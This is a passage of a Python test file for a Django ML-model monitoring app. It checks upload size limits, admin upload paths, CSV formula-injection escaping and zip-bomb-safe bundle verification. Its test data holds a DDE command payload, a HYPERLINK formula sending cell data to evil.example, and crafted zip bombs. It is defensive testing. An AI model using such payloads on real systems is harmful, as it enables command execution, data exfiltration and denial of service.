        file_header("nonmembers", "nonmembers.csv")
        out.write(NONMEMBERS + b"\r\n")
        file_header("members", "members.csv")
        out.write(MEMBERS)
        block = row * (MiB // len(row))
        csv_size = len(MEMBERS)
        while csv_size < members_size:
            out.write(block)
            csv_size += len(block)
        out.write(f"\r\n--{boundary}--\r\n".encode())
    client = browser.client
    io_stats = Path("/proc/self/io")
    written_before = _bytes_written(io_stats)
    with body.open("rb") as stream:
        environ = client._base_environ(
            PATH_INFO=reverse("model-register"), REQUEST_METHOD="POST", CONTENT_LENGTH=str(body.stat().st_size),
            CONTENT_TYPE=f"multipart/form-data; boundary={boundary}", **{"wsgi.input": stream})
        response, peak = peak_memory(lambda: client.handler(environ))
    written = _bytes_written(io_stats) - written_before if written_before is not None else None
    return response, peak, csv_size, written


def _bytes_written(io_stats: Path) -> int | None:
    """Bytes this process has passed to write() so far (Linux: /proc/self/io wchar)."""
    if not io_stats.exists():
        return None
    return int(re.search(r"^wchar: (\d+)$", io_stats.read_text(), re.M).group(1))


def test_a_real_upload_over_the_default_limit_is_refused_without_holding_it_in_memory(browser, upload_dir, settings, tmp_path):
    """A CSV of the configured DATASET_MAX_BYTES (100 MiB by default) plus 1 MiB: refused from its size, the
    body never in memory, and the file never read by the view."""
    limit = settings.DATASET_MAX_BYTES
    started = time.perf_counter()
    response, peak, size, _ = stream_registration(browser, tmp_path, members_size=limit + MiB)
    elapsed = time.perf_counter() - started
    assert response.status_code == 400
    page = html.unescape(response.content.decode())
    assert f"the file is {size:,} bytes; the limit is {limit:,} bytes (DATASET_MAX_BYTES)" in page
    assert peak < 32 * MiB, f"{peak / MiB:.0f} MiB held while refusing a {size / MiB:.0f} MiB upload"
    assert stored(upload_dir) == EMPTY
    print(f"\n{size / MiB:.0f} MiB upload refused in {elapsed:.1f} s (incl. writing it), peak Python memory {peak / MiB:.1f} MiB")


def test_an_oversized_upload_is_not_written_to_disk_past_the_limit(browser, upload_dir, settings, tmp_path):
    """Django writes an upload to a temporary file however large it is; past the largest upload limit the rest
    is read and dropped, so an endless upload cannot fill the disk. Measured as the bytes this process wrote."""
    if not Path("/proc/self/io").exists():
        pytest.skip("measures writes through Linux /proc/self/io")
    settings.DATASET_MAX_BYTES = settings.ARTIFACT_MAX_BYTES = MiB
    response, _, size, written = stream_registration(browser, tmp_path, members_size=48 * MiB)
    assert response.status_code == 400
    page = html.unescape(response.content.decode())
    assert f"the file is {size:,} bytes; the limit is {MiB:,} bytes (DATASET_MAX_BYTES)" in page
    assert written < 8 * MiB, f"{written / MiB:.0f} MiB written to disk for a {size / MiB:.0f} MiB upload"
    assert stored(upload_dir) == EMPTY


# --- the Django admin -------------------------------------------------------------------------------------

def test_the_admin_has_no_upload_path_of_its_own(upload_dir):
    """Its "Add" opens the registration form; artifacts and datasets have no add or upload form in it."""
    admin = Browser()
    client = admin.client
    response = client.get("/admin/monitor/registeredmodel/add/")
    assert response.status_code == 302 and response["Location"] == reverse("model-register")
    posted = client.post("/admin/monitor/registeredmodel/add/", {
        "csrfmiddlewaretoken": admin.token, "slug": "adm", "name": "Adm", "label_column": "label",
        "artifact": SimpleUploadedFile("m.pkl", pickle.dumps({"a": 1})),
        "members": SimpleUploadedFile("members.csv", MEMBERS), "nonmembers": SimpleUploadedFile("n.csv", NONMEMBERS)})
    assert posted.status_code == 302 and posted["Location"] == reverse("model-register")
    assert stored(upload_dir) == EMPTY
    model = make_model(slug="existing")
    change = client.get(f"/admin/monitor/registeredmodel/{model.pk}/change/").content.decode()
    assert 'type="file"' not in change and "multipart/form-data" not in change
    for path in ("/admin/monitor/modelartifact/add/", "/admin/monitor/referencedataset/add/"):
        assert client.get(path).status_code == 404


# --- exports escape formula cells -------------------------------------------------------------------------

def test_every_exported_text_cell_that_could_run_as_a_formula_is_escaped(db):
    from audits.evidence import FORMULA_PREFIXES, build_period_bundle
    from monitor.alerting import acknowledge, mute, raise_signal

    model = make_model(slug="export")
    muted, _ = raise_signal(signal(model=model, client_id="=cmd|' /C calc'!A0", kind="near_duplicate_sweep"))
    mute(muted, user=make_user(role="security", username="@x"), until=timezone.now() + timedelta(days=1),
         reason='=HYPERLINK("http://evil.example/?"&A1,"see")')
    acked, _ = raise_signal(signal(model=model, client_id="+SUM(1)", kind="boundary_probing"))
    acknowledge(acked, user=make_user(role="security", username="-2+3"), note="\tlooks scripted")
    now = timezone.now()
    bundle = build_period_bundle(model=model, start=now - timedelta(days=1), end=now)
    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("alerts.csv").decode())))
    assert {row["client_id"] for row in rows} == {"'=cmd|' /C calc'!A0", "'+SUM(1)"}
    muted_row = next(row for row in rows if row["event"] == "muted")
    assert muted_row["client_id"] == "'=cmd|' /C calc'!A0" and muted_row["event_actor"] == "'@x"
    assert muted_row["mute_reason"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"see\")"
    acked_row = next(row for row in rows if row["event"] == "acknowledged")
    assert acked_row["acknowledged_by"] == "'-2+3" and acked_row["event_actor"] == "'-2+3"
    assert acked_row["event_note"] == "'\tlooks scripted"
    for row in rows:
        for cell in row.values():
            if cell.startswith(FORMULA_PREFIXES):
                float(cell)  # only numbers we computed may start like a formula


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\0=1+1"])
def test_csv_cells_escape_every_formula_prefix_including_nul(text):
    """OWASP's list plus NUL (ASVS 5.0 1.2.10): some spreadsheet importers drop a leading NUL."""
    from audits.evidence import csv_cell

    assert csv_cell(text) == "'" + text
    assert csv_cell(-2.5) == -2.5 and csv_cell(3) == 3  # numbers we computed stay numbers


# --- evidence bundles handed to verify_evidence -----------------------------------------------------------

def test_verifying_a_bundle_with_zip_bombs_inside_never_holds_them_in_memory(tmp_path):
    """verify_evidence reads a bundle someone handed over. One member declares and inflates to 256 MiB (the
    manifest agrees), another declares 10 bytes and inflates to 256 MiB: each is hashed or read in steps,
    never inflated whole, and the check fails naming the file."""
    import json

    honest, crc, size = deflate_run(256 * MiB, fill=b"1")
    lying, _, _ = deflate_run(256 * MiB, prefix=b'{"seq": 1}', fill=b"\n")
    manifest = json.dumps({"files": {"metrics.csv": {"sha256": "0" * 64, "size": size},
                                     "audit_log.jsonl": {"sha256": "0" * 64, "size": 10}}}).encode()
    bundle = tmp_path / "bundle.zip"
    bundle.write_bytes(build_zip([
        ("MANIFEST.json", zipfile.ZIP_STORED, manifest, zlib.crc32(manifest), len(manifest)),
        ("metrics.csv", zipfile.ZIP_DEFLATED, honest, crc, size),
        ("audit_log.jsonl", zipfile.ZIP_DEFLATED, lying, zlib.crc32(b'{"seq": 1}'), 10),
    ]))
    assert bundle.stat().st_size < MiB

    def verify() -> str:
        with pytest.raises(CommandError) as caught:
            call_command("verify_evidence", str(bundle), stdout=io.StringIO())
        return str(caught.value)

    message, peak = peak_memory(verify)
    assert "metrics.csv: SHA-256" in message and "does not match MANIFEST.json" in message
    assert peak < 64 * MiB, f"{peak / MiB:.0f} MiB held verifying a {bundle.stat().st_size / MiB:.1f} MiB bundle"
